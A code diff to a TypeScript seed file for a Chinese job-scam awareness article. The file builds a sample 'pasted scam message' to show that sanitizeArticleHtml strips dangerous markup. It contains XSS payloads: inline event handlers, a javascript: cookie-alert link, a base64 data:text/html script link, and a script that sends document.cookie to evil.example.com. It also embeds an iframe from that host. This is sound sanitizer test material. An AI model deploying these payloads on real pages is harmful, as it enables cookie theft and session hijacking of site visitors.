@@ -3,8 +3,8 @@ import { OWN, type SeedArticle } from './article-types';
 const AUTHOR = '就业指导中心 政策研究室';
 
 /**
- * What an author might paste from a scam message: an inline handler, a script, a javascript: link, a data:
- * image with an error handler and an iframe from an unknown host. The seed stores the article through
+ * What an author might paste from a scam message: inline handlers, a script, a javascript: link, a data: link
+ * and an iframe from an unknown host. The seed stores the article through
  * sanitizeArticleHtml, so none of it reaches the page; the quoted text stays.
  */
 const PASTED_SCAM = [
@@ -12,7 +12,7 @@ const PASTED_SCAM = [
   '<p onclick="alert(\'offer\')">以下文字摘自同学收到的一条短信，请对照上面的特征辨别：</p>',
   '<blockquote>【某集团人力资源部】恭喜您通过简历初筛！请<a href="javascript:alert(document.cookie)">点击此处缴纳培训押金</a>，24小时内未缴纳视为放弃入职资格。</blockquote>',
   '<script>document.location = "https://evil.example.com/steal?c=" + document.cookie;</script>',
-  '<img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(1)" alt="二维码">',
+  '<p>附件：<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" onfocus="alert(1)">入职通知书.html</a></p>',
   '<iframe src="https://evil.example.com/pay" width="300" height="200"></iframe>',
   '<p style="color:red" onmouseover="alert(2)">记住：正规单位招聘不会以任何名义收取费用。</p>',
 ].join('');
